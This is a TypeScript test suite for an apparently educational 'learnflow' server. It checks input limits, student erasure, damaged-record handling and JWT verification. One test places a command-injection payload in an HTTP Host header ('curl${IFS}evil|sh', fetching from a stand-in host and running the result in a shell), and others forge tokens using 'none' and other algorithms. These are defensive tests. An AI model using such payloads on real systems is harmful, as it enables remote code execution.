import { once } from 'node:events';
import { connect } from 'node:net';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { exportSPKI, generateKeyPair, SignJWT } from 'jose';
import { describe, expect, it } from 'vitest';
import { progress } from '../servers/progress/server.ts';
import { classUpdate } from '../servers/progress/skills/class-update.ts';
import { tokenVerifier } from '../shared/bridges/tokens.ts';
import { listen } from '../shared/host/listen.ts';
import { settingsFrom } from '../shared/host/settings.ts';
import type { Caller } from '../shared/runtime/caller.ts';
import { perform } from '../shared/runtime/perform.ts';
import { eraseStudent, exportStudent } from '../shared/runtime/students.ts';
import { counter, lendBook, library, shelfReport } from '../shared/testing/fixture.ts';
import { temporaryHouse } from '../shared/testing/house.ts';
import { httpDoor } from '../shared/testing/http.ts';

const SERVERS = [library, counter];
const ada: Caller = { identity: { role: 'local', student: 'ada' }, door: 'host', mayNameFiles: true };

describe('what a caller sends', () => {
  it('is never repeated at length: whoever reads the answer pays for it', async () => {
    await using house = temporaryHouse(SERVERS);
    await using door = await httpDoor(house);
    const long = 'x'.repeat(50_000);
    const many = Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`key${i}`, 1]));
    for (const body of [
      { [long]: 1, title: 'x' },
      { ...many, title: 'x' },
      { title: 'x', student: long },
    ]) {
      const said = await door.post('/library/lend-book', body);
      expect(said.status).toBe(400);
      expect(JSON.stringify(said.body).length).toBeLessThan(700);
    }
  });

  it('is kept apart where a class and a student have one name', async () => {
    await using house = temporaryHouse([progress]);
    await perform(classUpdate, { class: 'ada', add: ['bob'], id: 'k1' }, ada, house);
    expect((await exportStudent('ada', house)).documents).toEqual([]);
    expect(await eraseStudent('ada', house)).toEqual({ student: 'ada', documents: 0 });
    const again = await perform(classUpdate, { class: 'ada', add: ['bob'], id: 'k1' }, ada, house);
    expect(again.result).toMatchObject({ added: 1, students: 1 });
  });

  it('as the same code twice is one submission', async () => {
    await using house = temporaryHouse(SERVERS);
    await using door = await httpDoor(house);
    const submit = async (code: string) => (await door.post('/submissions', { code })).body.submission;
    expect([await submit('a'), await submit('a'), await submit('b')]).toEqual(['s1', 's1', 's2']);
  });

  it('never becomes part of a command on a page', async () => {
    await using house = temporaryHouse(SERVERS);
    await using door = await httpDoor(house, { key: await publicKey(), audience: 'learnflow', issuer: undefined });
    const socket = connect(Number(new URL(door.url).port), '127.0.0.1');
    socket.end('GET /docs HTTP/1.1\r\nHost: x;curl\x24{IFS}evil|sh\r\nConnection: close\r\n\r\n');
    let page = '';
    for await (const chunk of socket) page += chunk;
    expect(page).not.toContain('evil|sh');
  });
});

describe('a student who is forgotten', () => {
  it('stands on no roster any more', async () => {
    await using house = temporaryHouse([progress]);
    for (const group of ['9b', 'club']) await perform(classUpdate, { class: group, add: ['ada', 'bob'] }, ada, house);
    await eraseStudent('ada', house);
    for (const group of ['9b', 'club']) {
      const { result } = await perform(classUpdate, { class: group, remove: ['nobody'] }, ada, house);
      expect(result).toMatchObject({ students: 1, removed: 0 });
    }
    expect((await exportStudent('ada', house)).documents).toEqual([]);
  });
});

describe('a document that is damaged', () => {
  it('is named, and its student can still be deleted', async () => {
    await using house = temporaryHouse(SERVERS);
    await perform(lendBook, { title: 'Emma' }, ada, house);
    const database = new DatabaseSync(join(house.home, 'learnflow.db'));
    database.exec(`UPDATE document SET value = '{"broken' WHERE kind = 'fixture-shelf'`);
    database.close();
    await expect(perform(shelfReport, {}, ada, house)).rejects.toMatchObject({ code: 'document_damaged' });
    expect((await eraseStudent('ada', house)).documents).toBeGreaterThan(0);
  });
});

describe('a token', () => {
  it.each(['RS256', 'ES256', 'HS256', 'none'])('that names %s is not taken where the key is Ed25519', async (alg) => {
    const verify = tokenVerifier({ key: await publicKey(), audience: 'learnflow', issuer: undefined });
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    await expect(verify(`Bearer ${part({ alg })}.${part({ sub: 'ada' })}.AAAA`)).rejects.toMatchObject({
      code: 'unauthorized',
    });
  });

  it('is verified by no key that is weak or made for something else', async () => {
    const weak = [
      await generateKeyPair('ES384', { extractable: true }),
      await generateKeyPair('ECDH-ES', { crv: 'X25519', extractable: true }),
    ];
    for (const pair of weak) {
      const key = await exportSPKI(pair.publicKey);
      expect(() => tokenVerifier({ key, audience: 'learnflow', issuer: undefined })).toThrow(
        /no public key we verify with/,
      );
    }
  });

  it('with operator: false is a student', async () => {
    const pair = await generateKeyPair('EdDSA', { extractable: true });
    const verify = tokenVerifier({ key: await exportSPKI(pair.publicKey), audience: 'learnflow', issuer: undefined });
    const token = await new SignJWT({ sub: 'ada', operator: false })
      .setProtectedHeader({ alg: 'EdDSA' })
      .setAudience('learnflow')
      .setExpirationTime('5m')
      .sign(pair.privateKey);
    expect(await verify(`Bearer ${token}`)).toEqual({ role: 'student', student: 'ada' });
  });
});

it('a connection that says nothing does not keep the process from stopping', async () => {
  await using house = temporaryHouse(SERVERS);
  const settings = settingsFrom({ LEARNFLOW_HOME: house.home });
  const door = await listen({ servers: SERVERS, house: house.beside(), settings, host: '127.0.0.1', port: 0 });
  const silent = connect(Number(new URL(door.address).port), '127.0.0.1');
  await once(silent, 'connect');
  silent.on('error', () => undefined);
  await door.close();
  expect((await once(silent, 'close')).length).toBe(1);
}, 20_000);

async function publicKey(): Promise<string> {
  return exportSPKI((await generateKeyPair('EdDSA', { extractable: true })).publicKey);
}
